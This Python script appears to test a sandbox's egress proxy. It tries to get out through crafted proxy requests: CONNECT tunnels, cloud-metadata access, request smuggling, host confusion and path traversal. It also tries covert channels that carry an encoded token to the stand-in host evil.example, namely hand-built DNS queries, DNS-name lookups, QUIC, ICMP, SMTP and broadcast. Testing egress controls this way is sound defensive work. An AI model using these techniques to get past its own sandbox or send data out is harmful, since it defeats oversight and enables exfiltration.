# Tries every tunnel that is not one: proxies' own words at the gateway, names that carry data, datagrams of any protocol.
import base64, socket

token = base64.b32encode(b"what the run knows").decode().strip("=").lower()


def ask(name, text):
    with socket.create_connection(("127.0.0.1", 3128)) as end:
        end.settimeout(10)
        said = b""
        try:
            end.sendall(text.encode("latin-1"))
            while part := end.recv(65536):
                said += part
                if b"\r\n\r\n" in said and b"connection: close" not in said.lower():
                    break
        except OSError:
            pass
    head = said.decode("latin-1").split("\r\n\r\n")[0].split("\r\n")
    codes = [line.split(": ")[1] for line in head if line.lower().startswith("writ-egress: ")]
    print(name + ":", *head[0].split(" ")[1:2], *codes)


host = "Host: 127.0.0.1:3128\r\n"
close = "Connection: close\r\n\r\n"
ask("connect ssh", "CONNECT evil.example:22 HTTP/1.1\r\nHost: evil.example:22\r\n\r\n")
ask("connect metadata", "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
ask("connect loopback", "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n")
ask("absolute form", f"GET http://evil.example/?{token} HTTP/1.1\r\nHost: evil.example\r\n{close}")
ask("absolute form of metadata", f"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n{close}")
ask("absolute form of https", f"GET https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n{close}")
ask("another host", f"GET /vault/ HTTP/1.1\r\nHost: evil.example\r\n{close}")
ask("absolute and another host", f"GET http://127.0.0.1:3128/vault/ HTTP/1.1\r\nHost: evil.example\r\n{close}")
ask("two hosts", f"GET /vault/ HTTP/1.1\r\n{host}Host: evil.example\r\n{close}")
ask("no host", f"GET /vault/ HTTP/1.1\r\n{close}")
ask("user in the host", f"GET /vault/ HTTP/1.1\r\nHost: 127.0.0.1:3128@evil.example\r\n{close}")
ask("unknown service", f"GET /evil.example/ HTTP/1.1\r\n{host}{close}")
ask("out of the service", f"GET /vault/../evil/ HTTP/1.1\r\n{host}{close}")
ask("two lengths", f"POST /vault/ HTTP/1.1\r\n{host}Content-Length: 0\r\nContent-Length: 5\r\n{close}")
ask("length and chunks", f"POST /vault/ HTTP/1.1\r\n{host}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n{close}0\r\n\r\n")
ask("folded header", f"GET /vault/ HTTP/1.1\r\n{host}X-A: b\r\n c\r\n{close}")
ask("bare line feeds", "GET /vault/ HTTP/1.1\nHost: 127.0.0.1:3128\nConnection: close\n\n")
ask("websocket", f"GET /vault/ HTTP/1.1\r\n{host}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
ask("http 2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
ask("trace", f"TRACE /vault/ HTTP/1.1\r\n{host}{close}")


def send(name, family, kind, protocol, address, data):
    try:
        with socket.socket(family, kind, protocol) as end:
            end.settimeout(2)
            if kind == socket.SOCK_STREAM:
                end.connect(address)
            else:
                end.sendto(data, address)
        print(name, "WENT THROUGH")
    except OSError:
        print(name, "refused")


query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(token)]) + token.encode() + b"\x04evil\x07example\x00\x00\x10\x00\x01"
for server in ("8.8.8.8", "169.254.169.253", "192.168.0.1"):
    send(f"dns by hand to {server}", socket.AF_INET, socket.SOCK_DGRAM, 0, (server, 53), query)
for name in (f"{token}.evil.example", "evil.example", "host.docker.internal", "gateway.docker.internal", "metadata.google.internal"):
    try:
        socket.getaddrinfo(name, 443)
        print(name, "RESOLVED")
    except OSError:
        print(name, "not resolved")
send("quic", socket.AF_INET, socket.SOCK_DGRAM, 0, ("1.1.1.1", 443), b"\xc0" + bytes(1199))
send("quic 6", socket.AF_INET6, socket.SOCK_DGRAM, 0, ("2606:4700:4700::1111", 443), b"\xc0" + bytes(1199))
send("ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("1.1.1.1", 0), b"\x08\0\0\0\0\0\0\0" + token.encode())
send("smtp", socket.AF_INET, socket.SOCK_STREAM, 0, ("1.1.1.1", 25), b"")
send("ssh", socket.AF_INET, socket.SOCK_STREAM, 0, ("1.1.1.1", 22), b"")
send("mdns", socket.AF_INET, socket.SOCK_DGRAM, 0, ("224.0.0.251", 5353), query)
send("broadcast", socket.AF_INET, socket.SOCK_DGRAM, 0, ("255.255.255.255", 67), b"x")
